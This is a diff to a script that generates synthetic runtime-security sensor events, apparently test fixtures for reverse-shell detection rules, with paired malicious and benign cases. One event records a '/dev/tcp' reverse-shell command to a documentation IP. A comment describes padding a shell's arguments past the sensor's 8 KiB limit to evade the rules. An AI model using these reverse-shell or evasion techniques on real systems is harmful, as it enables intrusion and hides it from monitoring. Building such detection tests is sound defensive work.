@@ -1394,3 +1394,81 @@ work = [
 with open(OUT / "developer_workload.jsonl", "w") as fh:
     for doc in work:
         fh.write(json.dumps(doc) + "\n")
+
+# --- added after the workload, so that the documents above keep their numbers -------------------
+later: dict[str, dict[str, Any]] = {}
+SOCK_FIELDS = {
+    "fd.num": 3,
+    "fd.type": "ipv4",
+    "fd.typechar": "4",
+    "fd.name": "10.42.1.9:51344->203.0.113.50:443",
+    "fd.l4proto": "tcp",
+    "fd.cip": "10.42.1.9",
+    "fd.cport": 51344,
+    "fd.sip": "203.0.113.50",
+    "fd.sport": 443,
+    "fd.lip": "10.42.1.9",
+    "fd.lport": 51344,
+    "fd.rip": "203.0.113.50",
+    "fd.rport": 443,
+}
+SOCK_TEXT = "<4>10.42.1.9:51344->203.0.113.50:443"
+# `exec 0<&3` in a shell that closes stdin, then fcntl(3, F_DUPFD, 0).
+later["stdio_to_socket.fcntl.json"] = ev(
+    "fcntl",
+    comm="sh",
+    argv=["sh"],
+    exepath="/usr/bin/busybox",
+    chain=[("sh", 6711, "sh -c exec 3<>/dev/tcp/203.0.113.50/443"), *CONTAINER_INIT],
+    container=CID_WEB,
+    image="registry.example.net/shop/web",
+    user=WEB_USER,
+    rawres=0,
+    args={"res": SOCK_TEXT, "fd": SOCK_TEXT, "cmd": "F_DUPFD"},
+    **SOCK_FIELDS,
+    **{"evt.rawarg": {"res": 0, "fd": 3, "cmd": 1}},
+)
+# fcntl(3, F_GETFL) of the same socket: O_RDWR, 2, is a result like an fd onto stderr.
+later["stdio_to_socket.benign_fcntl_getfl.json"] = ev(
+    "fcntl",
+    comm="python3",
+    argv=["python3", "/srv/app/worker.py"],
+    exepath="/usr/bin/python3.11",
+    chain=CONTAINER_INIT,
+    container=CID_WEB,
+    image="registry.example.net/shop/web",
+    user=WEB_USER,
+    rawres=2,
+    args={"res": "<f>/dev/null", "fd": SOCK_TEXT, "cmd": "F_GETFL"},
+    **SOCK_FIELDS,
+    **{"evt.rawarg": {"res": 2, "fd": 3, "cmd": 4}},
+)
+# A reverse shell pushed past the sensor's 8 KiB argument limit by leading blanks: what
+# the rules see ends before the /dev/tcp part.
+later["truncated_cmdline_shell.json"] = ev(
+    "execve",
+    comm="bash",
+    argv=["bash", "-c", "true" + " " * 8187],
+    exepath="/usr/bin/bash",
+    chain=[
+        ("sh", 6801, "sh -c bash -c ..."),
+        ("node", 900, "node /srv/app/server.js"),
+        ("systemd", 1, "/sbin/init"),
+    ],
+    user=("node", 1000),
+    args={"filename": "/bin/bash"},
+    **{"proc.is_args_truncated": True},
+)
+later["truncated_cmdline_shell.benign_python.json"] = ev(
+    "execve",
+    comm="python3",
+    argv=["python3", "-c", "import json, sys" + "\n" * 8175],
+    exepath="/usr/bin/python3.11",
+    chain=DEV,
+    user=DEVU,
+    cwd="/home/dev/src/shop",
+    args={"filename": "/usr/bin/python3"},
+    **{"proc.is_args_truncated": True},
+)
+for name, doc in later.items():
+    (OUT / name).write_text(json.dumps(doc, indent=2) + "\n")
